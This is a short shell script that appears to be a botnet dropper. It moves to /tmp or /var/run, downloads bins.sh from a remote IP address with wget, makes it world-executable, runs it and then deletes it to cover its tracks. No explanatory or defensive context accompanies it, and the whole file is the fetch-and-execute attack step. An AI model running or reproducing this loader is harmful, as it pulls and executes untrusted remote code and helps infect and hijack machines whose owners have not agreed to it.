#!/bin/sh
cd /tmp || cd /var/run
wget http://203.0.113.66/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh
